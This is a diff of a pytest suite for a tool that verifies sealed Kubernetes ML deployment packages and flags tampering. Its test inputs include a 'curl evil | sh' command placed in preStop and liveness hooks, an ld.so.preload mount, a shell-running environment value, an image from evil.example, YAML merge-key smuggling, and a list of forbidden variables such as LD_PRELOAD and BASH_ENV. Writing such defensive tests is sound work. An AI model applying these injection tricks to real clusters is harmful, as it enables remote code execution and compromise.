@@ -14,7 +14,6 @@ import yaml
 from packager.package.layout import INVENTORY
 from packager.package.opened import opened
 from packager.verify import changes
-from tests import demo
 from tests.broken import seal
 from tests.files import replace
 
@@ -26,7 +25,6 @@ if TYPE_CHECKING:
 
     Run = Callable[..., Outcome]
 
-MULTI = "quickstart/k8s/mlops/multi-node"
 SINGLE = "quickstart/k8s/mlops/single-node"
 COMMON = "quickstart/common/mpi/k8s/mlops"
 ENV = f"{SINGLE}/mlops.env"
@@ -76,30 +74,6 @@ def test_digest_as_received_covers_edits(mlpack: Run, package: Path, kubectl: Pa
     assert (report["digest"], report["received"]) == (sealed, received)
 
 
-def test_digest_as_received_is_the_same_for_folder_and_archive(
-    mlpack: Run, package: Path, kubectl: Path, tmp_path: Path
-) -> None:
-    replace(package / ENV, "REGISTRY=docker.io", "REGISTRY=mirror.example")
-    subprocess.run(["tar", "--format=ustar", "-czf", "p.tar.gz", "hello-mpi"], cwd=tmp_path, check=True)
-    (package / "output").mkdir()
-    (package / "output/log.txt").touch()
-    (package / ".git").mkdir()
-    reports = [mlpack("verify", path, "--kubectl", kubectl, "-o", "json").json for path in (package, "p.tar.gz")]
-    assert reports[0]["received"] == reports[1]["received"]
-    assert reports[0]["valid"] is reports[1]["valid"] is True
-
-
-def test_documented_command_prints_digest_of_unusual_file_names(mlpack: Run, tmp_path: Path, kubectl: Path) -> None:
-    names = ("a b.txt", "it's.txt", "a\\b.txt", 'a"b.txt', "é.txt")
-    text = demo.changed("assets: [data]")
-    spec = demo.write(tmp_path / "demo", text, {f"data/{name}": "x" for name in names})
-    assert mlpack("build", spec, "--format", "dir").code == 0
-    package = tmp_path / "demo-fp32-training"
-    replace(package / ENV, "REGISTRY=docker.io", "REGISTRY=mirror.example")
-    report = mlpack("verify", package, "--kubectl", kubectl, "-o", "json").json
-    assert report["received"] == _listed_digest(package)
-
-
 def test_expected_digest_matches_sealed_or_received_package(mlpack: Run, package: Path, kubectl: Path) -> None:
     def expect(digest: str) -> Outcome:
         return mlpack("verify", package, "--kubectl", kubectl, "--expect", digest)
@@ -143,44 +117,29 @@ def test_edited_image_and_command_are_reported(mlpack: Run, package: Path, kubec
     assert "\u202e" not in done.stdout + done.stderr
 
 
-@pytest.mark.parametrize(
-    ("added", "changed"),
-    [
-        (
-            'lifecycle: {preStop: {exec: {command: [sh, -c, "curl evil | sh"]}}}',
-            "the command of preStop of single-node",
-        ),
-        ('livenessProbe: {exec: {command: [sh, -c, "curl evil | sh"]}}', "the command of livenessProbe of single-node"),
-    ],
-)
-def test_command_beside_the_program_is_reported(
-    mlpack: Run, package: Path, kubectl: Path, added: str, changed: str
-) -> None:
-    replace(package / SINGLE / "pod.yaml", "      workingDir: /\n", f"      workingDir: /tmp\n      {added}\n")
+def test_command_beside_the_program_is_reported(mlpack: Run, package: Path, kubectl: Path) -> None:
+    command = '{exec: {command: [sh, -c, "curl evil | sh"]}}'
+    added = f"      workingDir: /tmp\n      lifecycle: {{preStop: {command}}}\n      livenessProbe: {command}\n"
+    replace(package / SINGLE / "pod.yaml", "      workingDir: /\n", added)
     done = mlpack("verify", package, "--kubectl", kubectl)
-    words = '["sh", "-c", "curl evil | sh"]'
-    assert f"an edit changes {changed}: {words!r}; it was sealed with none\n" in done.stderr
+    words = repr('["sh", "-c", "curl evil | sh"]')
+    for hook in ("preStop", "livenessProbe"):
+        assert (
+            f"an edit changes the command of {hook} of single-node: {words}; it was sealed with none\n" in done.stderr
+        )
     assert "an edit changes the working folder of single-node: '/tmp'; it was sealed with '/'\n" in done.stderr
 
 
-@pytest.mark.parametrize(
-    ("path", "name"),
-    [("/etc/ld.so.preload", "ld.so.preload"), ("/usr/lib/python3/dist-packages/sitecustomize.py", "sitecustomize.py")],
-)
-def test_file_mounted_by_an_edit_is_reported(mlpack: Run, package: Path, kubectl: Path, path: str, name: str) -> None:
+def test_file_mounted_by_an_edit_is_reported(mlpack: Run, package: Path, kubectl: Path) -> None:
     """Loaders and interpreters run what some files name, as they run what some variables name."""
+    path = "/etc/ld.so.preload"
+    name = "ld.so.preload"
     mount = f"        - {{name: runtime, mountPath: {path}, subPath: identity.sh}}\n"
     replace(package / SINGLE / "pod.yaml", "        - name: scripts\n", f"{mount}        - name: scripts\n")
     done = mlpack("verify", package, "--kubectl", kubectl)
     assert (
         f"an edit changes the mount of single-node: 'runtime/identity.sh as {name}'; it was sealed with " in done.stderr
     )
-
-
-def test_edit_of_the_folder_of_the_model_changes_no_mount(mlpack: Run, package: Path, kubectl: Path) -> None:
-    replace(package / ENV, "MODEL_DIR=ROOT/hello-mpi", "MODEL_DIR=/mnt/models/hello-mpi")
-    done = mlpack("verify", package, "--kubectl", kubectl)
-    assert (done.code, "an edit changes" in done.stderr) == (0, False)
 
 
 def test_edited_secret_values_are_masked(mlpack: Run, kubectl: Path, tmp_path: Path) -> None:
@@ -196,14 +155,7 @@ def test_edited_secret_values_are_masked(mlpack: Run, kubectl: Path, tmp_path: P
         assert "'API_TOKEN=***' was 'API_TOKEN=***'" in done.stderr
 
 
-def test_long_edited_line_shows_its_start_and_its_end(mlpack: Run, package: Path, kubectl: Path) -> None:
-    replace(package / ENV, "DATASET_DIR=/dataset", f"DATASET_DIR=/data{'x' * 5000}/end")
-    done = mlpack("verify", package, "--kubectl", kubectl)
-    [line] = [line for line in done.stderr.splitlines() if "DATASET_DIR" in line]
-    assert "'DATASET_DIR=/dataxxx" in line
-    assert "xxx/end' (5,021 characters) was 'DATASET_DIR=/dataset'" in line
-
-
+@pytest.mark.thorough
 def test_more_than_500_edited_lines_are_refused(mlpack: Run, package: Path, kubectl: Path) -> None:
     _append(package / ENV, "# a comment\n" * changes.MOST_LINES)
     done = mlpack("verify", package, "--kubectl", kubectl)
@@ -215,14 +167,8 @@ def test_more_than_500_edited_lines_are_refused(mlpack: Run, package: Path, kube
     assert (done.code, done.stdout) == (5, f"{message} (build the package again with these values)\n")
 
 
-@pytest.mark.parametrize(
-    "key",
-    [
-        *("PYTHONWARNINGS", "BROWSER", "ENV", "JAVA_TOOL_OPTIONS", "RUBYOPT", "PAGER", "GIT_SSH", "LD_LIBRARY_PATH"),
-        *("OMPI_MCA_plm_rsh_agent", "OMP_TOOL_LIBRARIES", "CUDA_INJECTION64_PATH", "HTTPS_PROXY", "EPOCHS"),
-    ],
-)  # fmt: skip
-def test_variable_added_by_an_edit_needs_allow(mlpack: Run, package: Path, kubectl: Path, key: str) -> None:
+def test_variable_added_by_an_edit_needs_allow(mlpack: Run, package: Path, kubectl: Path) -> None:
+    key = "LD_LIBRARY_PATH"
     _append(package / ENV, f'{key}=/bin/sh -c "id"\n')
     row = (package / ENV).read_text(encoding="utf-8").count("\n")
     message = "an edit adds this variable, and programs may run what it says"
@@ -235,7 +181,7 @@ def test_variable_added_by_an_edit_needs_allow(mlpack: Run, package: Path, kubec
     assert mlpack("verify", package, "--kubectl", kubectl, "--allow", f"variable:{key}").code == 0
 
 
-@pytest.mark.parametrize("part", ["data", "binaryData"])
+@pytest.mark.parametrize("part", ["data", pytest.param("binaryData", marks=pytest.mark.thorough)])
 def test_code_changed_or_added_by_an_edit_needs_allow(mlpack: Run, package: Path, kubectl: Path, part: str) -> None:
     """A module beside the program shadows one of Python's."""
     [name] = [
@@ -254,8 +200,9 @@ def test_code_changed_or_added_by_an_edit_needs_allow(mlpack: Run, package: Path
     assert (allowed.code, allowed.stdout) == (0, "")
 
 
-@pytest.mark.parametrize(("config_map", "key"), [("env", "OUTPUT_DIR"), ("runtime", "identity.sh")])
-@pytest.mark.parametrize("is_projected", [False, True])
+@pytest.mark.parametrize(
+    ("config_map", "key", "is_projected"), [("env", "OUTPUT_DIR", False), ("runtime", "identity.sh", True)]
+)
 def test_program_that_an_edit_takes_from_another_key_needs_allow(
     mlpack: Run, package: Path, kubectl: Path, config_map: str, key: str, *, is_projected: bool
 ) -> None:
@@ -286,14 +233,6 @@ def test_renamed_code_is_not_changed_code(mlpack: Run, package: Path, kubectl: P
     assert mlpack("verify", package, "--kubectl", kubectl).code == 0
 
 
-def test_name_that_no_allow_can_permit_is_not_suggested(mlpack: Run, package: Path, kubectl: Path) -> None:
-    _append(package / ENV, "export A=1\n")
-    done = mlpack("verify", package, "--kubectl", kubectl)
-    assert done.code == 5
-    assert "an edit adds this variable" in done.stdout
-    assert "--allow" not in done.stdout
-
-
 def test_forbidden_variable_is_refused_even_with_allow(mlpack: Run, package: Path, kubectl: Path) -> None:
     _append(package / ENV, "BASH_ENV=/x\n")
     done = mlpack("verify", package, "--kubectl", kubectl, "--allow", "variable:BASH_ENV")
@@ -301,49 +240,40 @@ def test_forbidden_variable_is_refused_even_with_allow(mlpack: Run, package: Pat
     assert "data.BASH_ENV: it cannot be set in a package: the shell would run it" in done.stdout
 
 
-@pytest.mark.parametrize("key", ["LD_PRELOAD", "BASH_ENV", "PATH", "PYTHONHOME", "NODE_OPTIONS", "MLPACK_X"])
+FORBIDDEN = ("LD_PRELOAD", "BASH_ENV", "PATH", "PYTHONHOME", "NODE_OPTIONS", "MLPACK_X")
+
+
 @pytest.mark.parametrize("sealed", [True, False], ids=["sealed", "by an edit"])
-def test_forbidden_variable_is_refused_in_a_container(
-    mlpack: Run, package: Path, kubectl: Path, key: str, *, sealed: bool
+def test_forbidden_variables_are_refused_in_a_container(
+    mlpack: Run, package: Path, kubectl: Path, *, sealed: bool
 ) -> None:
-    replace(package / f"{SINGLE}/pod.yaml", "      env:\n", f"      env:\n        - {{name: {key}, value: /x}}\n")
+    variables = "".join(f"        - {{name: {key}, value: /x}}\n" for key in FORBIDDEN)
+    replace(package / f"{SINGLE}/pod.yaml", "      env:\n", f"      env:\n{variables}")
     if sealed:
         with opened(package) as whole:
             seal(whole)
-    done = mlpack("verify", package, "--kubectl", kubectl, "--allow", f"variable:{key}")
-    assert (done.code, done.stdout.count("\n")) == (5, 1)
-    assert f"spec.containers[0].env[0].name: {key}: it cannot be set in a package: " in done.stdout
+    allowed = [word for key in FORBIDDEN for word in ("--allow", f"variable:{key}")]
+    done = mlpack("verify", package, "--kubectl", kubectl, *allowed)
+    assert (done.code, done.stdout.count("\n")) == (5, len(FORBIDDEN))
     refused = mlpack("deploy", package, "--overlay", "single-node", "--kubectl", kubectl)
-    assert (refused.code, f"{key}: it cannot be set in a package: " in refused.stderr) == (5, True)
+    assert refused.code == 5
+    for key in FORBIDDEN:
+        assert f".name: {key}: it cannot be set in a package: " in done.stdout
+        assert f"{key}: it cannot be set in a package: " in refused.stderr
 
 
-def test_home_added_to_a_container_by_an_edit_needs_allow(mlpack: Run, package: Path, kubectl: Path) -> None:
-    """Builds set it only in the containers that run programs of the model, but one that has it may change its value."""
-    edited = "    - name: identity\n      env: [{name: ZDOTDIR, value: /x}, {name: HOME, value: /x}]\n"
-    replace(package / f"{SINGLE}/pod.yaml", "    - name: identity\n", edited)
+def test_variables_added_by_an_edit_are_found_in_any_file(mlpack: Run, package: Path, kubectl: Path) -> None:
+    replace(package / SINGLE / "pod.yaml", "      env:\n", "      env:\n        - name: ONE\n          value: x\n")
+    replace(package / LIST, ", envs: [", ", literals: [TWO=x], envs: [")
+    replace(package / PATCH, "spec:\n", "spec:\n  containers: [{name: main, env: [{name: THREE, value: x}]}]\n")
+    operation = "{op: add, path: /spec/containers/0/env/-, value: {name: FOUR, value: x}}"
+    patch = f"  - patch: |-\n      - {operation}\n    target: {{kind: Pod}}\n"
+    replace(package / LIST, "  - path: pod-patch.yaml\n", f"  - path: pod-patch.yaml\n{patch}")
     done = mlpack("verify", package, "--kubectl", kubectl)
     assert done.code == 5
-    assert done.stdout.count("an edit adds this variable") == done.stdout.count("\n") == 1
-
-
-@pytest.mark.parametrize(
-    ("file", "old", "new"),
-    [
-        (f"{SINGLE}/pod.yaml", "      env:\n", "      env:\n        - name: BROWSER\n          value: x\n"),
-        (LIST, ", envs: [", ", literals: [BROWSER=x], envs: ["),
-        (PATCH, "spec:\n", "spec:\n  containers: [{name: main, env: [{name: BROWSER, value: x}]}]\n"),
-        (LIST, "  - path: pod-patch.yaml\n", ("  - path: pod-patch.yaml\n  - patch: |-\n      - {op: add, path: "
-         "/spec/containers/0/env/-, value: {name: BROWSER, value: x}}\n    target: {kind: Pod}\n")),
-    ],
-)  # fmt: skip
-def test_variable_added_by_an_edit_is_found_in_any_file(
-    mlpack: Run, package: Path, kubectl: Path, file: str, old: str, new: str
-) -> None:
-    replace(package / file, old, new)
-    done = mlpack("verify", package, "--kubectl", kubectl)
-    assert done.code == 5
-    assert done.stdout.count("an edit adds this variable") == done.stdout.count("\n") == 1
-    assert mlpack("verify", package, "--kubectl", kubectl, "--allow", "variable:BROWSER").code == 0
+    assert done.stdout.count("an edit adds this variable") == done.stdout.count("\n") == 4
+    allowed = [word for key in ("ONE", "TWO", "THREE", "FOUR") for word in ("--allow", f"variable:{key}")]
+    assert mlpack("verify", package, "--kubectl", kubectl, *allowed).code == 0
 
 
 def test_value_of_sealed_variable_may_change(mlpack: Run, kubectl: Path, tmp_path: Path) -> None:
@@ -355,8 +285,8 @@ def test_value_of_sealed_variable_may_change(mlpack: Run, kubectl: Path, tmp_pat
     assert "'PYTHONPATH=/b' was 'PYTHONPATH=/a'" in done.stderr
 
 
-@pytest.mark.parametrize("option", ["weights", "package-volume"])
-def test_image_that_an_edit_mounts_is_reported(mlpack: Run, package: Path, kubectl: Path, option: str) -> None:
+def test_image_that_an_edit_mounts_is_reported(mlpack: Run, package: Path, kubectl: Path) -> None:
+    option = "weights"
     image = f"evil.example/x@sha256:{'0' * 64}"
     key = f"{option.partition('-')[0].upper()}_IMAGE"
     site = package / COMMON / "site/site.env"
@@ -390,7 +320,7 @@ def test_options_of_weaker_level_switched_on_by_an_edit_are_refused(mlpack: Run,
     assert mlpack("verify", package, "--kubectl", kubectl, "--pod-security", "privileged").code == 0
 
 
-@pytest.mark.parametrize("option", ["root", "nfs", "host-path", "host-network", "output-nfs", "dataset-host-path"])
+@pytest.mark.parametrize("option", [pytest.param("nfs", marks=pytest.mark.thorough), "host-network"])
 def test_option_of_weaker_level_needs_pod_security_flag(mlpack: Run, package: Path, kubectl: Path, option: str) -> None:
     values = {
         "nfs": ("NFS_SERVER=nfs.example.com",),
@@ -403,30 +333,6 @@ def test_option_of_weaker_level_needs_pod_security_flag(mlpack: Run, package: Pa
     assert done.code == 5
     assert all("when it was sealed (--pod-security " in line for line in done.stdout.splitlines())
     assert mlpack("verify", package, "--kubectl", kubectl, "--pod-security", "privileged").code == 0
-
-
-def test_root_id_in_patch_is_refused(mlpack: Run, package: Path, kubectl: Path) -> None:
-    replace(package / PATCH, "runAsUser: 1000", "runAsUser: 0")
-    done = mlpack("verify", package, "--kubectl", kubectl)
-    assert done.code == 5
-    assert "spec.securityContext.runAsUser: root, which the package did not ask for when it was sealed" in done.stdout
-
-
-def test_package_sealed_for_root_accepts_root_ids(mlpack: Run, kubectl: Path, tmp_path: Path) -> None:
-    assert mlpack("build", "hello-mpi", "--format", "dir", "--with", "root").code == 0
-    package = tmp_path / "hello-mpi"
-    replace(package / PATCH, "runAsUser: 0", "runAsUser: 1")
-    assert mlpack("configure", package, "--uid", "0", "--gid", "5").code == 0
-    done = mlpack("verify", package, "--kubectl", kubectl)
-    assert (done.code, done.stdout) == (0, "")
-
-
-def test_sealed_option_may_be_switched_off(mlpack: Run, kubectl: Path, tmp_path: Path) -> None:
-    assert mlpack("build", "hello-mpi", "--format", "dir", "--with", "host-network").code == 0
-    package = tmp_path / "hello-mpi"
-    assert mlpack("configure", package, "--without", "host-network").code == 0
-    done = mlpack("verify", package, "--kubectl", kubectl)
-    assert (done.code, done.stdout) == (0, "")
 
 
 ACCOUNT = "runs as the service account 'admin' of the namespace (--allow ServiceAccount permits it)"
@@ -446,6 +352,7 @@ def test_service_account_added_by_an_edit_needs_allow(mlpack: Run, package: Path
     )
 
 
+@pytest.mark.thorough
 def test_service_account_changed_by_an_edit_is_refused(mlpack: Run, kubectl: Path, tmp_path: Path) -> None:
     build = ("build", "hello-mpi", "--format", "dir", "--with", "service-account", "--site", "SERVICE_ACCOUNT=trainer")
     assert mlpack(*build).code == 0
@@ -483,8 +390,6 @@ _OPERATION = """
 _MERGED = "<< is not allowed here: not every YAML parser merges keys"
 MERGES = {
     "a patch": (PATCH, "spec:\n", "spec:\n  <<: {hostNetwork: true}\n", _MERGED),
-    "a quoted key": (PATCH, "spec:\n", 'spec:\n  "<<": {hostNetwork: true}\n', _MERGED),
-    "a list of merged values": (PATCH, "spec:\n", "spec:\n  ? <<\n  : [{hostNetwork: true}]\n", _MERGED),
     "a key in another encoding": (PATCH, "spec:\n", "spec:\n  !!binary aG9zdE5ldHdvcms=: true\n", "YAML tags are not"),
     "an operation, which kustomize merges": (LIST, "patches:\n", f"patches:{_OPERATION}", "spec.hostNetwork: shares"),
 }
